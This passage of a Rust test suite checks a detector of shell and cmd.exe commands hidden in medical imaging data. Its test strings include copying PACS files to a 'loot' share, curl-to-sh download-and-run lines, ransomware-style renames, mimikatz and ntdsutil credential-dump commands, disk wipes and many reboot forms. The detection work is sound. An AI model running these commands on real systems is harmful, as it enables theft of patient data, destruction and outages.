            for &binary in binary {
                let severity = found(line.as_bytes(), binary).map(|found| found.severity);
                if severity != Some(Severity::Alert) {
                    missed.push(format!("{line:?} (binary: {binary}): {severity:?}"));
                }
            }
        }
        assert!(missed.is_empty(), "missed: {missed:#?}");
    }

    fn assert_clean(lines: &[&str]) {
        let mut alerted = Vec::new();
        for line in lines {
            for binary in [false, true] {
                if let Some(found) = found(line.as_bytes(), binary) {
                    alerted.push(format!("{line:?} (binary: {binary}): {}", found.detail));
                }
            }
        }
        assert!(alerted.is_empty(), "false alarms: {alerted:#?}");
    }

    /// cmd.exe ends a program's name at `/` (`cmd/c`), reads commands from a file
    /// redirected to its input or from a pipe, and is spelt `%ComSpec%`.
    #[test]
    fn every_spelling_of_cmd_that_runs_a_command_alerts() {
        assert_alerts(
            &[
                "cmd/c calc",
                "cmd/k calc.exe",
                "CMD/C powershell -enc SQBFAFgA",
                "cmd/ccalc",
                "cmd < C:\\ProgramData\\x\\a.txt",
                "cmd <C:\\ProgramData\\x\\a.txt",
                "cmd 0<a.txt",
                "type C:\\x\\a.txt | cmd",
                "type C:\\x\\a.txt|cmd",
                "%ComSpec%/c calc",
                "%ComSpec% /c calc",
                "%COMSPEC% /C calc",
                "C:\\Windows\\System32\\cmd.exe/c calc",
                "cmd.exe/c calc",
                "cmd /v:on /c \"set x=calc&& !x!\"",
                "cmd /q /c whoami",
                "cmd /c \"C:\\Program Files\\x\\evil\"",
                "cmd /c start \"\" http://198.51.100.7/x",
            ],
            &[false, true],
        );
        // A pipe into a cmd.exe with switches: in text (binary values ask for the line
        // to end after the name, the chance budget of invariant 11).
        assert_alerts(&["type C:\\x\\a.txt | cmd /q"], &[false]);
        // A plain name after a lone `/c`, in text: cmd.exe finds it by PATHEXT (a
        // dropper's `cmd /c payload`); glued to the switch it is prose's (`CMD /CBD`).
        assert_alerts(
            &["cmd /c mimikatz", "CMD /K dropper_2", "cmd /c \"payload\""],
            &[false],
        );
        // Review rv40b: the same apart from the switch by cmd.exe's other separators,
        // or after `start`'s empty title or its switch; in binary values too (a
        // private OB), a name of three letters or more.
        assert_alerts(
            &[
                "cmd /c mimikatz",
                "cmd /c\"mimikatz\"",
                "cmd /c,mimikatz",
                "cmd /c;mimikatz",
                "cmd /c=mimikatz",
                "cmd /s /c\" mimikatz\"",
                "start \"\" mimikatz",
                "start \"x\" /b mimikatz",
                "start /b mimikatz",
                "at 23:00 /every:M,T,W powershell -enc SQBFAFgA",
            ],
            &[false, true],
        );
    }

    /// A program named by a path without an extension: cmd.exe tries PATHEXT (`.COM`,
    /// `.EXE`, `.BAT`, `.CMD`, ...) in that folder.
    #[test]
    fn a_path_without_an_extension_runs_as_cmd_tries_pathext() {
        assert_alerts(
            &[
                "call C:\\ProgramData\\x\\run",
                "call \\\\198.51.100.7\\s\\run",
                "call x\\run",
                "C:\\ProgramData\\x\\evil.com",
                "if exist C:\\x call C:\\ProgramData\\x\\run",
            ],
            &[false, true],
        );
        // A UNC path alone: in text and the preamble (in binary values, a chance
        // `\\` and a word are over the budget of invariant 11).
        assert_alerts(
            &[
                "\\\\198.51.100.7\\s\\evil",
                "\\\\fileserver\\share$\\tools\\run -q",
            ],
            &[false],
        );
    }

    /// Living-off-the-land programs of Windows, with the arguments that make them
    /// dangerous.
    #[test]
    fn living_off_the_land_programs_alert_with_their_dangerous_arguments() {
        assert_alerts(
            &[
                "shutdown /r /f /t 0",
                "shutdown -s -t 0",
                "shutdown/r",
                "format D: /q /y",
                "format C: /fs:ntfs /q",
                "copy /y \\\\198.51.100.7\\s\\x.exe %TEMP%\\svc.exe",
                "copy C:\\PACS\\a.dcm \\\\198.51.100.7\\loot",
                "xcopy /s /y \\\\198.51.100.7\\s C:\\ProgramData\\x\\",
                "xcopy C:\\PACS \\\\198.51.100.7\\loot /s",
                "move /y C:\\PACS\\*.dcm \\\\198.51.100.7\\loot",
                "ren *.dcm *.locked",
                "ren C:\\PACS\\*.dcm *.locked",
                "rename *.dcm *.dcm.enc",
                "expand \\\\198.51.100.7\\s\\x.cab -F:* C:\\ProgramData",
                "expand x.cab -F:* C:\\ProgramData",
                "extrac32 /Y /C \\\\198.51.100.7\\s\\x.exe C:\\ProgramData\\x.exe",
                "tftp -i 198.51.100.7 GET x.exe",
                "mofcomp \\\\198.51.100.7\\s\\x.mof",
                "regedit /s C:\\ProgramData\\x\\a.reg",
                "ftype txtfile=C:\\ProgramData\\x\\evil.exe \"%1\"",
                "assoc .txt=exefile",
                "at 23:00 C:\\ProgramData\\x\\evil",
                "at 23:00 /every:M cmd /c calc",
                "at \\\\dc01 3:00 evil.bat",
                "runas /user:administrator \"cmd /c whoami\"",
                "conhost powershell -enc SQBFAFgA",
                "conhost --headless cmd",
                "hh http://198.51.100.7/x.chm",
                "hh \\\\198.51.100.7\\s\\x.chm",
                "mklink /d C:\\x \\\\198.51.100.7\\s",
                "attrib +h +s C:\\ProgramData\\x",
                "sdelete -accepteula -p 3 C:\\PACS",
                "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\x\" q q",
                "cmdkey /add:host /user:x /pass:y",
                "winrm quickconfig -q",
                "nltest /domain_trusts",
                "bash -c \"curl http://198.51.100.7/x|sh\"",
                "start \"\" /b C:\\ProgramData\\x\\evil",
                "start \"x\" at 23:00 C:\\ProgramData\\x\\evil",
            ],
            &[false, true],
        );
    }

    /// In binary values a plain name after `cmd /c` or `start /b` counts from
    /// `PLAIN_NAME_MIN_IN_BINARY` letters; in text from one.
    #[test]
    fn a_plain_name_in_binary_values_has_its_least_letters() {
        let short = "a".repeat(PLAIN_NAME_MIN_IN_BINARY - 1);
        let long = "a".repeat(PLAIN_NAME_MIN_IN_BINARY);
        for launcher in ["cmd /c ", "start /b "] {
            let short = format!("{launcher}{short}");
            assert!(found(short.as_bytes(), true).is_none(), "{short}");
            assert_alerts(&[short.as_str(), &format!("{launcher}{long}")], &[false]);
            assert_alerts(&[&format!("{launcher}{long}")], &[true]);
        }
    }

    /// A file not DICOM is read as batch text whole: a chance `\\` and a letter at a
    /// line's start in a ZIP's deflated bytes is no UNC path of a program (it alerted in
    /// a run of `real_readers.rs`, session 40); a whole one still alerts.
    #[test]
    fn a_chance_double_backslash_is_no_unc_program() {
        let chance = b"\\\\if\xe9\x1a\x8c\xceb\x06'f\xce.\xc5x";
        assert!(found(chance, false).is_none());
        assert!(found(b"\\\\if\\x", false).is_none());
        assert_alerts(&["\\\\198.51.100.7\\s\\evil"], &[false]);
    }

    /// Prose that starts with the names of these programs, or reads as cmd.exe's syntax
    /// but makes it run nothing: `CMD /CBD` hands cmd.exe `BD dilated 9 mm`, a program
    /// no Windows has; `start "contrast" at 10:32` runs `at 10:32`, which schedules
    /// nothing.
    #[test]
    fn prose_that_reads_as_cmd_but_runs_nothing_is_clean() {
        assert_clean(&[
            // Review rv40b: a report's critical-result line and its like (`at` cannot run
            // cmd.exe's own commands, and their names are words).
            "At 14:32 call placed to Dr. Smith, findings read back and confirmed.",
            "At 10:45 echo showed a small pericardial effusion.",
            "at 09:12 for comparison, prior MRI reviewed.",
            "At 10:00 if needed, contrast will be given.",
            "at 10:15 MD notified of findings.",
            "At 11:20 set up for biopsy.",
            "CMD /Cmimikatz",
            "CMD /CBD dilated 9 mm",
            "cmd /c.b.d. 9 mm",
            "CMD /CBD 9 mm, IHD /normal",
            "start \"contrast\" at 10:32, 80 ml",
            "start \"contrast\" at 10:32",
            "start /min 5",
            "Start /stop times: 10:32/10:47",
            "At 10:32 contrast was given",
            "at 23:00 the patient was scanned",
            "Format: DICOM /RLE",
            "format of the report changed",
            "Format C: drive of workstation replaced",
            "Copy to PACS /node AE1",
            "copy of report sent to Dr. Smith",
            "Move /y patient to ward 3",
            "Expand the field of view",
            "expand /compare to prior",
            "Ren /Renal: normal",
            "Attrib /Attributable risk 2%",
            "Assoc /Association with prior noted",
            "assoc. with prior",
            "Shutdown of scanner at 18:00",
            "Hh /HH: 12 g/dl",
            "HH 12 g/dl",
            "Bash -c/Bash c sign",
            "at risk of fracture",
            "Type of study: CT | cmd reviewed",
            "Call Dr. Smith /pager 4411 re: findings",
            "call Dr. Smith re: results",
            // Session 37's open false alarm: report prose whose only line ends are CRs,
            // read as one line (`/kg` hands cmd.exe `g IV.`).
            "Gallbladder & CMD within normal limits.\rSedation: midazolam 0.05 mg /kg IV.",
        ]);
    }

    /// Session 41 (issue 10): a share named by its device path (`\\?\UNC\host\share`,
    /// `\\.\UNC\…`) or with forward slashes (`//host/share`) is the same share to Windows.
    #[test]
    fn a_share_in_every_spelling_is_remote() {
        assert_alerts(
            &[
                "copy C:\\PACS\\a.dcm \\\\?\\UNC\\198.51.100.7\\loot\\",
                "copy C:\\PACS\\a.dcm \\\\.\\UNC\\198.51.100.7\\loot\\",
                "xcopy C:\\PACS \\\\?\\UNC\\198.51.100.7\\loot /s",
                "move /y C:\\PACS\\*.dcm \"\\\\?\\UNC\\198.51.100.7\\loot\"",
                "copy C:\\PACS\\a.dcm //198.51.100.7/loot/",
            ],
            &[false, true],
        );
    }

    /// Session 41 (issue 10): a tool named with `.com` (`format.com` is the file
    /// System32 holds) is the tool; a name ending with `.com` or `.msc` (both in PATHEXT)
    /// alone on its line runs it.
    #[test]
    fn com_and_msc_programs_run() {
        assert_alerts(
            &[
                "format.com D: /q /y",
                "format.com D: /fs:ntfs /q",
                "C:\\x\\evil.msc",
            ],
            &[false, true],
        );
        assert_alerts(&["mimikatz.com", "evil.msc", "rclone.com 2>nul"], &[false]);
        // Alone in binary values: as chance bytes make such a line, a warning.
        for line in ["mimikatz.com", "evil.msc"] {
            let severity = found(line.as_bytes(), true).map(|found| found.severity);
            assert_eq!(severity, Some(Severity::Warning), "{line}");
        }
    }

    /// Session 41 (issue 10): the arguments cmd.exe hands these tools, read as the tools
    /// read them: switches glued (`/r/f/t 0`), a format's prompt answered by a pipe, a
    /// rename of a `for` loop's files, bash's options before its `-c`, a script by its
    /// path, `at`'s 12-hour time and a plain name it schedules, `start`'s plain name.
    #[test]
    fn dangerous_arguments_in_every_form_alert() {
        assert_alerts(
            &[
                "shutdown /r/f/t 0",
                "shutdown -r -t 0",
                "format D: /q/y",
                "echo Y|format D:",
                "echo y| format D:",
                "for %f in (*.dcm) do ren \"%f\" \"%~nf.locked\"",
                "for %%f in (C:\\PACS\\*.dcm) do ren \"%%f\" \"%%~nf.locked\"",
                "bash --login -c \"curl http://198.51.100.7/x|sh\"",
                "bash -i -c \"curl http://198.51.100.7/x|sh\"",
                "bash -e -c \"id\"",
                "bash --norc --rcfile /dev/null -c id",
                "bash /tmp/x",
                "bash ./x",
                "at 23:00 mimikatz",
                "at 23:00 \"mimikatz\"",
                "at 23:00 mimikatz \"privilege::debug\"",
                "at 3:00PM C:\\x\\evil.exe",
                "at 3:00pm evil.bat",
                "at 15:20 ipconfig /release",
                "at 23:00 calc",
                "start mimikatz",
                "start mimikatz -x",
                "cmd /c echo x > C:\\ProgramData\\x\\a.bat",
                "cmd /c \"echo x & calc\"",
                "copy report.pdf \\\\PACSRV01\\reports\\2024",
            ],
            &[false, true],
        );
    }

    /// Session 41 (issue 10): a share set in a variable (`set s=\\host\loot`) and handed
    /// to `copy` as `%s%`: cmd.exe expands it before `copy` reads it.
    #[test]
    fn a_share_in_a_variable_is_remote() {
        assert_alerts(
            &[
                "set s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %s%",
                "set s=\\\\198.51.100.7\\loot\r\nC:\\Windows\\System32\\xcopy.exe C:\\PACS %s% /s",
            ],
            &[false, true],
        );
        // Unset, `%s%` is nothing: `copy` is given one file.
        assert_clean(&["copy C:\\PACS\\*.dcm %s%"]);
    }

    /// `MAX_EXPANDED_ARGUMENTS` variables of a command's arguments are expanded; past
    /// them the rest is read as written, and a command that then finds nothing is a
    /// `not-inspected` warning naming the bound.
    #[test]
    fn arguments_past_the_expanded_variables_are_said_not_inspected() {
        let line = |unset: usize| {
            format!(
                "set s=\\\\198.51.100.7\\loot\r\ncopy \"C:\\PACS\\{}\" %s%",
                "%a%".repeat(unset)
            )
        };
        let within = line(MAX_EXPANDED_ARGUMENTS - 1);
        assert_alerts(&[within.as_str()], &[false, true]);
        let past = line(MAX_EXPANDED_ARGUMENTS);
        for binary in [false, true] {
            let found = found(past.as_bytes(), binary).expect("a warning");
            assert_eq!(found.severity, Severity::Warning, "{}", found.detail);
            assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
            assert!(
                found.detail.contains("MAX_EXPANDED_ARGUMENTS"),
                "{}",
                found.detail
            );
        }
    }

    /// Session 41 (issue 10): report prose that alerted, each of which cmd.exe runs to no
    /// effect: `start` and `cmd /c` hand it a name no Windows has, followed by prose
    /// (`procedure verified.`), or a command that only prints (`echo`); `at` schedules a
    /// program that only prints, alone (its output goes nowhere); shutdown.exe and copy
    /// refuse words that are none of their switches nor operands (`delayed due to`, three
    /// operands).
    #[test]
    fn report_prose_cmd_runs_to_no_effect_is_clean() {
        assert_clean(&[
            "Start \"Time-out\" /b procedure verified.",
            "Start /B echo-planar imaging sequence.",
            "cmd /c echo of CBD seen",
            "CMD /C ECHO normal",
            "At 15:20 ipconfig",
            "Shutdown -r delayed due to emergency",
            "copy of report: \\\\PACSRV01\\reports\\2024",
            "Start time",
            "Start of contrast injection",
            "at 23:00 the patient was scanned",
            "At 15:20 Dr. Smith notified.",
            "Bash w/o contrast",
            "Bash /Bankart lesion",
            "ren 10% vs 12.5",
            "EGENIX.COM SOFTWARE LICENSE",
            "www.example.com",
        ]);
    }

    /// Review of session 41 (issue 10, item 3): shutdown.exe splits its arguments at
    /// blanks only, so `reason=patch` and `Patch,now` are one value of `/c`, and it takes
    /// a switch's value glued by a colon (`/t:0`); prose with such bytes stays prose.
    #[test]
    fn shutdown_reads_its_words_split_at_blanks_only() {
        assert_alerts(
            &[
                "shutdown /r /t 0 /c reason=patch",
                "shutdown /r /t 0 /c Patch,now",
                "shutdown /r /t:0",
                "shutdown -s -t:30 -f",
            ],
            &[false, true],
        );
        assert_clean(&[
            "Shutdown -r delayed due to emergency",
            "Shutdown -r delayed=patch",
            "shutdown /r /t:",
        ]);
    }

    /// Review of session 41 (issue 10, item 3): what follows `&`, `&&`, `||` or `|` on a
    /// line that `cmd /c` (or `/k`) starts is a command of its own, run by cmd.exe
    /// (`cmd /c echo x & calc` runs calc): judged as what a launcher runs.
    #[test]
    fn a_command_after_an_operator_on_a_cmd_c_line_is_run() {
        assert_alerts(
            &[
                "cmd /c echo x & calc",
                "cmd /c setlocal & mimikatz",
                "cmd /k ver && calc.exe",
                "cmd.exe /c echo x || notepad",
            ],
            &[false, true],
        );
        assert_clean(&["cmd /c echo of CBD seen & fluid", "Echo x & calc"]);
    }

    /// Review of session 41 (issue 10, item 3): cmd.exe reads `;`, `,` and `=` as blanks
    /// between arguments, where copy's own reader may join them: an operand count within
    /// copy's by either reading is a copy it makes (`copy a;b \\host\s`).
    #[test]
    fn copy_operands_joined_by_cmds_delimiters_are_counted_both_ways() {
        assert_alerts(
            &[
                "copy a;b \\\\198.51.100.7\\s",
                "copy C:\\PACS\\a.dcm,\\\\198.51.100.7\\s",
                "move a=b \\\\198.51.100.7\\s",
            ],
            &[false, true],
        );
        assert_clean(&["copy of report: \\\\PACSRV01\\reports\\2024"]);
    }

    /// Review of session 41 (issue 10, item 3): Linux's `shutdown -h now`, `poweroff` and
    /// `reboot -f` as sh text (the ENOEXEC fallback runs it) had no rule; their prose
    /// (`Shutdown -r delayed`, `reboot of the scanner`) stays clean.
    #[test]
    fn linux_power_commands_in_sh_text_are_commands() {
        for text in [
            "shutdown -h now\n",
            "poweroff\n",
            "reboot -f\n",
            "shutdown now\n",
            "halt -p\n",
            "Findings stable\nshutdown -r +1\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in [
            "Shutdown -r delayed due to emergency\n",
            "reboot of the scanner went fine\n",
            "halt the infusion\n",
            "shutdown of the scanner\n",
        ] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
    }

    /// Review of session 42 (issue 10, class 1, checked with dash): a power command
    /// written as sh runs it (quotes and backslashes removed, a path, after `sudo` or a
    /// wrapper), bare (`reboot` alone), and `init`/`telinit` with a runlevel that stops
    /// the machine or its services were clean. Clinical prose with the same words, where
    /// they are no command word or take no option, time or runlevel, stays clean.
    #[test]
    fn power_commands_in_every_form_sh_runs_are_commands() {
        for text in [
            "init 0\n",
            "telinit 0\n",
            "init 6\n",
            "reboot\n",
            "Findings stable\nreboot\n",
            "reboot; echo done\n",
            "halt\n",
            "'shutdown' -h now\n",
            "\"poweroff\"\n",
            "\\reboot\n",
            "s''hutdown -h now\n",
            "\"reboot\" -f\n",
            "/sbin/shutdown -h now\n",
            "/sbin/init 0\n",
            "sudo shutdown now\n",
            "systemctl poweroff\n",
            "systemctl reboot\n",
            "systemctl halt\n",
            "env reboot\n",
            "command 'init' 6\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in [
            "the scanner will reboot at 10:40\n",
            "Init 0 dose\n",
            "shutdown of the CT for service\n",
            "Reboot\n",
            "init of the series\n",
            "init 10 mg\n",
            "reboot() { :; }\n",
            "halt the infusion\n",
        ] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
    }

    /// Review rv43-screen (issue 10, case7 and case8, checked with dash and stand-ins):
    /// a power command `find -exec` or `xargs` runs, and the other programs that power
    /// the machine off or restart it (`loginctl`, `kexec -e`, `openrc-shutdown`, logind's
    /// D-Bus method), were clean. Every power command is in one table,
    /// `sh::POWER_COMMANDS`.
    #[test]
    fn every_power_command_and_what_runs_one_are_commands() {
        for text in [
            "find /etc/hostname -exec reboot \\;\n",
            "find /etc/hostname -exec init 0 \\;\n",
            "find /etc/hostname -exec shutdown now \\;\n",
            "find . -execdir halt ';'\n",
            // Review rv44-screen case1: find's `{}` is a path operand, which systemd's
            // reboot takes as its parameter and busybox's ignores: both reboot.
            "find /etc/hostname -exec reboot {} \\;\n",
            "find /etc/hostname -exec reboot {} +\n",
            "find . -execdir poweroff '{}' ';'\n",
            "echo | xargs reboot\n",
            "loginctl poweroff\n",
            "loginctl reboot\n",
            "kexec -e\n",
            "openrc-shutdown -p now\n",
            "openrc-shutdown --reboot now\n",
            "dbus-send --system --print-reply --dest=org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager.PowerOff boolean:true\n",
            "systemctl poweroff\n",
            "systemctl start poweroff.target\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in [
            "find the reboot log\n",
            "loginctl list-sessions\n",
            "kexec -l /boot/vmlinuz\n",
            "dbus-send --session org.example.Ping\n",
            "find . -exec grep reboot {} \\;\n",
        ] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
        // The table's strong names are judged by the strong rule: they must be there.
        for (name, acts) in sh::POWER_COMMANDS {
            assert!(
                acts != sh::Acts::Strong || is_strong(name),
                "{}",
                String::from_utf8_lossy(name)
            );
        }
    }

    /// Review rv44-screen (issue 10, case2, checked with dash and stand-ins): programs
    /// that run their operand were read as if their options took no argument (the
    /// argument was taken for the command) or were no runners at all. One table,
    /// `sh::RUNNERS`, says how each takes its options.
    #[test]
    fn what_a_runner_runs_is_found_past_its_options_arguments() {
        for text in [
            "su -c reboot\n",
            "su root -c reboot\n",
            "su - root --command='init 0'\n",
            "su -c'shutdown -h now' root\n",
            "script -qc reboot /dev/null\n",
            "script -c \"init 0\" /dev/null\n",
            "timeout -s KILL 9 reboot\n",
            "timeout -k 1 5 reboot\n",
            "timeout --foreground 5 reboot\n",
            "timeout 5s reboot\n",
            "env -u HOME reboot\n",
            "env -C / reboot\n",
            "env --chdir=/ reboot\n",
            "env -S 'init 0'\n",
            "runuser -u root -- reboot\n",
            "runuser root -c reboot\n",
            "chroot / reboot\n",
            "chroot --userspec root:root / reboot\n",
            "systemd-run reboot\n",
            "systemd-run -p User=root --unit x reboot\n",
            "pkexec reboot\n",
            "pkexec --user root reboot\n",
            "nice -n 5 reboot\n",
            "flock /tmp/l -c reboot\n",
            "flock /tmp/l reboot\n",
            "env X=1 timeout 9 sh -c x\n",
            // A variable as the command a runner runs (review rv44-screen case7).
            "C=reboot; find /etc/hostname -exec $C \\;\n",
            "C=init; find /etc/hostname -exec $C 0 \\;\n",
            "C=reboot; echo | xargs $C\n",
            "C=sh; env $C -c x\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in [
            "su root\n",
            "su -c 'echo done'\n",
            "script typescript\n",
            "timeout 5 true\n",
            "time for the reboot of the CT\n",
            "chroot /srv/x\n",
            "env -u HOME true\n",
        ] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
        for runner in &sh::RUNNERS {
            assert!(
                runner.name.len() <= sh::LONGEST_RUNNER_NAME && runner.name[0].is_ascii_lowercase(),
                "{}",
                String::from_utf8_lossy(runner.name)
            );
        }
    }

    /// Review rv45-screen (issue 10, case11, sh45/n08 n27; GNU env reads its
    /// assignments after `--` too): `env -- X=1 reboot` ran reboot, and the assignment
    /// was taken for the command (an s45 regression).
    #[test]
    fn env_assignments_after_double_dash_are_no_command() {
        for text in [
            "env -- X=1 reboot\n",
            "env -i -- PATH=/x reboot\n",
            "env -u HOME -- A=1 B=2 init 0\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        assert_eq!(find_shell_command(b"env -- X=1 true\n"), None);
    }

    /// Review rv45-screen (issue 10, case11, sh45/g*, checked with dash and stand-ins):
    /// GNU getopt_long takes any unique prefix of a long option, and `env --u HOME
    /// reboot` ran reboot while `HOME` was taken for the command.
    #[test]
    fn long_options_of_runners_are_read_by_unique_prefix() {
        for text in [
            "env --u HOME reboot\n",
            "env --chd / reboot\n",
            "timeout --k 1s 5s reboot\n",
            "timeout --sig KILL 5s reboot\n",
            "script -q --comm reboot /dev/null\n",
            "stdbuf --out L reboot\n",
            "su --comm reboot\n",
            "su --comm=reboot\n",
            "chroot --user 0:0 / reboot\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in ["env --u HOME true\n", "su --comm true\n"] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
    }

    /// Review rv45-screen (issue 10, case11, sh45/r*): programs that run their operand
    /// and were no runners (`prlimit`, `setarch`, `ssh-agent`, `fakeroot`, `run0`...),
    /// and systemd-run's `--expand-environment BOOL`.
    #[test]
    fn more_programs_that_run_their_operand_are_runners() {
        for text in [
            "prlimit --nofile=1024 reboot\n",
            "prlimit -n1024 reboot\n",
            "prlimit --pid 1 -- reboot\n",
            "setarch x86_64 reboot\n",
            "setarch -R x86_64 reboot\n",
            "linux64 reboot\n",
            "linux32 reboot\n",
            "choom -n 0 -- reboot\n",
            "systemd-inhibit reboot\n",
            "systemd-inhibit --why x reboot\n",
            "systemd-cat reboot\n",
            "systemd-cat -t x reboot\n",
            "ssh-agent reboot\n",
            "ssh-agent -t 5 reboot\n",
            "dbus-run-session -- reboot\n",
            "sg root reboot\n",
            "fakeroot reboot\n",
            "fakeroot -l lib.so -- reboot\n",
            "uclampset -m 0 reboot\n",
            "runcon -t unconfined_t reboot\n",
            "run0 reboot\n",
            "run0 -u root reboot\n",
            "systemd-run --expand-environment no reboot\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in ["setarch x86_64 true\n", "fakeroot true\n"] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
    }

    /// Review rv45-screen (issue 10, case14, sh45/d*): logind's `*WithFlags` methods,
    /// ScheduleShutdown and Sleep, systemd's own Manager power methods (SoftReboot,
    /// StartUnit of a power target) and qdbus were clean.
    #[test]
    fn more_logind_and_systemd_power_calls_are_commands() {
        for text in [
            "busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager RebootWithFlags t 0\n",
            "busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager SuspendWithFlags t 0\n",
            "busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager ScheduleShutdown st poweroff 0\n",
            "busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager Sleep t 0\n",
            "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartUnit ss reboot.target replace\n",
            "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager SoftReboot s ''\n",
            "gdbus call --system --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1 --method org.freedesktop.systemd1.Manager.PowerOff\n",
            "dbus-send --system --dest=org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager.PowerOffWithFlags uint64:0\n",
            "qdbus --system org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager.PowerOff false\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        let query = "busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager CanPowerOff\n";
        assert_eq!(find_shell_command(query.as_bytes()), None);
    }

    /// Review rv44-screen (issue 10, case3, checked with dash): a special parameter
    /// (`$?`, `$#`) is a number, a runlevel when it is `0`; an empty quoted operand
    /// (`reboot ''`) is one reboot takes; a command substitution alone before the
    /// program may expand to nothing, and the next word is the command.
    #[test]
    fn special_parameters_empty_words_and_empty_substitutions_are_read_as_dash_reads_them() {
        for text in [
            "true; init $?\n",
            "true; init \"$?\"\n",
            "set --; init $#\n",
            "reboot ''\n",
            "reboot \"\"\n",
            "$(:) init 0\n",
            "`true` reboot\n",
            "$(true) shutdown now\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in ["init $? mg\n", "\"$(true)\" reboot\n", "$? reboot\n"] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
    }

    /// Review rv44-screen (issue 10, case4): logind's power methods named to `busctl`
    /// and `gdbus` (as to `dbus-send`), and suspend through loginctl and D-Bus (as
    /// `systemctl suspend`), were clean.
    #[test]
    fn logind_power_and_sleep_calls_by_every_client_are_commands() {
        for text in [
            "busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager PowerOff b false\n",
            "busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager Reboot b false\n",
            "gdbus call --system --dest org.freedesktop.login1 --object-path /org/freedesktop/login1 --method org.freedesktop.login1.Manager.Reboot false\n",
            "gdbus call --system --dest org.freedesktop.login1 --object-path /org/freedesktop/login1 --method=org.freedesktop.login1.Manager.PowerOff false\n",
            "loginctl suspend\n",
            "loginctl hibernate\n",
            "dbus-send --system --dest=org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager.Suspend boolean:false\n",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in [
            "busctl list\n",
            "gdbus introspect --system --dest org.freedesktop.login1 --object-path /org/freedesktop/login1\n",
            "loginctl list-sessions\n",
        ] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
    }

    /// Review rv45-screen (issue 10, case11 follow-up): `runcon CONTEXT COMMAND` took
    /// the context for the command (`runcon -t TYPE COMMAND` has none), and sg's lone
    /// `-`, its `-c` and its one-word command line that `sh -c` runs were not read
    /// (sg(1): `sg [-] [group [-c] command]`).
    #[test]
    fn sg_and_runcon_run_their_command_in_every_shape() {
        for text in [
            "sg - wheel reboot
",
            "sg wheel -c reboot
",
            "sg wheel reboot
",
            "sg wheel 'init 0'
",
            "sg - wheel -c 'shutdown -h now'
",
            "runcon -t unconfined_t reboot
",
            "runcon system_u:system_r:unconfined_t:s0 reboot
",
            "runcon -c -u system_u reboot
",
            "runcon --type=unconfined_t init 0
",
            "runcon unconfined_u:unconfined_r:unconfined_t:s0 -- reboot
",
        ] {
            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
            assert_eq!(found, Some(Severity::Alert), "{text:?}");
        }
        for text in [
            "sg wheel id
",
            "sg wheel 'echo reboot'
",
            "runcon system_u:system_r:unconfined_t:s0 id
",
            "runcon -t unconfined_t ls
",
        ] {
            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
        }
    }

    /// Review rv45-screen (issue 10, case14): a signal that makes PID 1 reboot, halt or
    /// power off (systemd(1), "Signals"; busybox init's USR1/USR2/TERM), and a signal
    /// to `-1`, every process, were clean. Signal spellings as dash, bash and procps
    /// read them (checked with dash and /usr/bin/kill here: `int`, `RTMIN+4`, `SIGINT`).
    #[test]
    fn kill_signals_that_stop_init_or_every_process_are_commands() {
        for text in [
            "kill -INT 1
",
            "kill -SIGINT 1
",
            "kill -int 1
",
            "kill -2 1
",
            "kill -s INT 1
",
            "kill -sINT 1
",
            "kill --signal=INT 1
",
            "kill -s RTMIN+4 1
",
            "kill -s SIGRTMIN+3 1
",
            "kill -RTMIN+5 1
",
            "kill -s SIGRTMIN+13 1
",
